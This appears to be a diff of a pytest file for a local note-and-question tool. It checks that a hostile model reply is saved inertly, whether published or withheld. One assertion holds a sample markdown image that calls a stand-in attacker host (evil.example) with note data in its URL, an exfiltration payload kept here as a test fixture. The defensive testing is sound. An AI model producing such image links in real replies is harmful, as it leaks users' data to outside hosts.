@@ -65,7 +65,7 @@ def _saved(world: FaultWorld) -> str:
     return note.read_text(encoding="utf-8")
 
 
-def _assert_inert(note: str) -> None:
+def _assert_inert(note: str, cited: tuple[str, ...] = ("Plant 1.md",)) -> None:
     """Nothing in the note loads or links to the web; its one report is askvault's."""
     body = note.split("\n---\n", 1)[1]
     assert live_content(body, structure=False) is None, live_content(body, structure=False)
@@ -73,21 +73,51 @@ def _assert_inert(note: str) -> None:
     assert [ln for ln in body.splitlines() if ln.startswith("## Citation report")] == [
         "## Citation report"
     ]
-    assert cited_paths_of(body) == ("Plant 1.md",)
+    assert cited_paths_of(body) == cited
     callouts = set(re.findall(r"^>+ ?\[!(\w+)\]", body, re.MULTILINE))
     assert callouts <= ASKVAULT_CALLOUTS, callouts
 
 
+# Enough backed sentences before the hostile ones that the reply is published: most of its
+# claims are supported (decision: mostly-unsupported withholds the bare HOSTILE). Eight
+# plants: as many pages as the model is sent (`queries.max_sources`).
+MORE_PLANTS = (4, 5, 6, 7)
+BACKED = " ".join(
+    f"Plant {i} needs shade and clay soil [[Plant {i}]]." for i in (0, 2, 3, *MORE_PLANTS)
+)
+
+
+@pytest.mark.parametrize(
+    ("reply", "status", "cited"),
+    [
+        (
+            f"{BACKED} {HOSTILE}",
+            "answered",
+            tuple(f"Plant {i}.md" for i in (0, 2, 3, *MORE_PLANTS, 1)),
+        ),
+        (HOSTILE, "no-answer", ("Plant 1.md",)),
+    ],
+    ids=["published", "withheld"],
+)
 def test_a_hostile_reply_is_saved_by_ask_with_nothing_that_loads_or_imitates(
-    world: FaultWorld, env: dict[str, str], fake_ollama: FakeOllama
+    world: FaultWorld,
+    env: dict[str, str],
+    fake_ollama: FakeOllama,
+    reply: str,
+    status: str,
+    cited: tuple[str, ...],
 ) -> None:
-    fake_ollama.chat_script = [HOSTILE]
+    """Published as the answer, or withheld and shown as the model's unverified reply."""
+    for i in MORE_PLANTS:
+        world.write(f"Plant {i}.md", f"# Plant {i}\n\nPlant {i} needs shade and clay soil.\n")
+    assert CliRunner().invoke(cli, ["index"], env=env).exit_code == 0
+    fake_ollama.chat_script = [reply]
     code, _, _ = _ask(env, "--save")
     assert code == 0
     note = _saved(world)
-    _assert_inert(note)
+    _assert_inert(note, cited)
     assert "`![x](http://evil.example/p.png?d=clay)`" in note  # shown, as code
-    assert "status: answered" in note.split("\n---\n", 1)[0]
+    assert f"status: {status}" in note.split("\n---\n", 1)[0]
 
 
 def test_control_characters_of_a_reply_reach_neither_the_terminal_nor_json(
